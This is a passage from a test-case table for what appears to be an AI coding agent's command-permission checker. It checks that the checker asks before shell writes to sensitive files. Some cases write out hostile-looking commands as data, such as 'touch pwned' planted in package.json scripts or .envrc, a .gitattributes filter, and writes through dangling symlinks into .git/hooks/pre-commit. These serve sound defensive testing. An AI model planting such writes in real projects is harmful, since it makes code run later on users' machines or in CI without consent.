    id: 'wr-edit-rule-other-folder', class: 'write-target', expect: 'ask',
    command: 'echo x > x/out.txt', rules: ['allow run_command(echo:*)', 'allow edit_file(src/**)'],
    probe: { shells: BOTH, effects: [{ contains: ['x/out.txt', 'x'] }] },
    source: 'ours',
  },
  {
    id: 'wr-cd-src-auto-edit', class: 'write-target', mode: 'auto-edit', expect: 'allow',
    command: 'cd src && echo x > out.txt', rules: ['allow run_command(echo:*)'],
    source: 'ours (cd followed, plain edit)',
  },
  {
    id: 'wr-cd-src-edit-rule', class: 'write-target', expect: 'allow',
    command: 'cd src && echo x > out.txt', rules: ['allow run_command(echo:*)', 'allow edit_file(src/**)'],
    source: 'ours (after cd src the target is src/out.txt, inside the rule)',
  },
  {
    id: 'wr-cd-src-write-back-up', class: 'write-target', expect: 'ask',
    command: 'cd src && echo x > ../README.md', rules: ['allow run_command(echo:*)', 'allow edit_file(src/**)'],
    probe: { shells: BOTH, effects: [{ contains: ['README.md', 'x'] }] },
    source: 'ours (the target resolves to README.md, outside src/**)',
  },
  {
    id: 'wr-devnull-not-a-write', class: 'write-target', expect: 'allow',
    command: 'echo x > /dev/null', rules: ['allow run_command(echo:*)'],
    source: 'COMMANDS.md (/dev/null is not a write)',
  },
  {
    id: 'wr-fd-dup-not-a-write', class: 'write-target', expect: 'allow',
    command: 'echo x >&2', rules: ['allow run_command(echo:*)'],
    source: 'COMMANDS.md (>&N is not a write)',
  },
  {
    id: 'wr-cp-auto-edit', class: 'write-target', mode: 'auto-edit', expect: 'allow',
    command: 'cp src/a.ts src/b.ts', rules: ['allow run_command(cp:*)'],
    source: 'ours',
  },
  {
    id: 'wr-tee-auto-edit', class: 'write-target', mode: 'auto-edit', expect: 'allow',
    command: 'echo x | tee out.txt', rules: ['allow run_command(echo:*)', 'allow run_command(tee:*)'],
    source: 'ours',
  },
  {
    // Issue 11 (was: allow, when only settings/tasks/launch/mcp.json in .vscode were sensitive):
    // all of .vscode/ is sensitive now — extensions.json makes VS Code offer (and users install)
    // extensions the repository picks.
    id: 'wr-vscode-extensions-sensitive', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'echo x > .vscode/extensions.json', rules: ['allow run_command(echo:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/extensions.json', 'x'] }] },
    source: 'issue 11 (all of .vscode/ is sensitive); sensitive.ts',
  },
  {
    id: 'wr-plan-mode-denies-write', class: 'write-target', mode: 'plan', expect: 'deny',
    command: 'echo x > out.txt', rules: ['allow run_command(echo:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['out.txt', 'x'] }] },
    source: 'COMMANDS.md step 3 (plan → deny)',
  },
  {
    id: 'wr-deny-edit-rule-cp', class: 'write-target', mode: 'full', expect: 'deny',
    command: 'cp README.md src/a.ts', rules: ['allow run_command(cp:*)', 'deny edit_file(src/**)'],
    probe: { shells: BOTH, effects: [{ contains: ['src/a.ts', 'fixture'] }] },
    source: 'COMMANDS.md step 2 (a write target matching a deny rule of edit_file → deny)',
  },
  {
    // unclear: sensitive.ts says an explicitly naming rule lets the write through; COMMANDS.md step 6 says
    // every sensitive write asks and cannot be remembered. Safer reading: ask.
    id: 'wr-sensitive-named-by-edit-rule', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'echo x > .vscode/settings.json', rules: ['allow run_command(echo:*)', 'allow edit_file(.vscode/settings.json)'],
    probe: { shells: BOTH, effects: [{ contains: ['.vscode/settings.json', 'x'] }] },
    source: 'sensitive.ts vs COMMANDS.md step 6',
  },
  // ── issue 11: files whose scripts or settings run code later, in any case ─────────────────
  {
    id: 'wr-package-json-scripts', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `echo '{"scripts":{"test":"touch pwned"}}' > package.json`, rules: ['allow run_command(echo:*)', 'allow edit_file(package.json)'],
    probe: { shells: BOTH, effects: [{ contains: ['package.json', 'touch pwned'] }] },
    source: 'issue 11 (package.json scripts run on install/test)',
  },
  {
    id: 'wr-nested-package-json-tee', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo x | tee packages/foo/package.json', rules: ['allow run_command(echo:*)', 'allow run_command(tee:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['packages/foo/package.json', 'x'] }] },
    source: 'issue 11 (a workspace package runs its own scripts)',
  },
  {
    id: 'wr-gitattributes-filter', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: `echo '* filter=ev' >> .gitattributes`, rules: ['allow run_command(echo:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.gitattributes', 'filter=ev'] }] },
    source: 'issue 11 (.gitattributes picks filters and diff drivers that run programs)',
  },
  {
    id: 'wr-makefile-cp', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'cp README.md Makefile', rules: ['allow run_command(cp:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['Makefile', 'fixture'] }] },
    source: 'issue 11 (make runs what the Makefile says)',
  },
  {
    id: 'wr-envrc', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo "touch pwned" > .envrc', rules: ['allow run_command(echo:*)'],
    probe: { shells: BOTH, effects: [{ contains: ['.envrc', 'touch pwned'] }] },
    source: 'issue 11 (direnv runs .envrc on cd)',
  },
  {
    id: 'wr-workflow-mkdir-and-write', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'mkdir -p .github/workflows && echo x > .github/workflows/ci.yml',
    probe: { shells: BOTH, effects: [{ contains: ['.github/workflows/ci.yml', 'x'] }] },
    source: 'issue 11 (CI runs with the repository secrets)',
  },
  {
    id: 'wr-upper-case-vscode', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'mkdir -p .VSCODE && echo x > .VSCODE/settings.json',
    probe: { shells: BOTH, effects: [{ contains: ['.VSCODE/settings.json', 'x'] }] },
    source: 'issue 11 (on a case-insensitive file system .VSCODE is .vscode)',
  },
  // A dangling symlink already in the workspace: writing through it creates its target (found in review; ours).
  {
    id: 'wr-existing-dangling-link-into-hooks', class: 'write-target', mode: 'full', expect: 'ask', suggested: null,
    command: 'echo evil > dangling-hook',
    probe: { shells: ['sh', 'bash'], effects: [{ contains: ['.git/hooks/pre-commit', 'evil'] }] },
    source: 'ours (a dangling link is followed to where it points)',
  },
  {
    id: 'wr-existing-dangling-link-outside', class: 'write-target', mode: 'auto-edit', expect: 'ask', suggested: null,
    command: 'echo evil > dangling-out', rules: ['allow run_command(echo:*)'],
    probe: { shells: ['sh', 'bash'], effects: [{ contains: ['../out/evil.sh', 'evil'] }] },
    source: 'ours (a dangling link to outside the workspace)',
  },
];
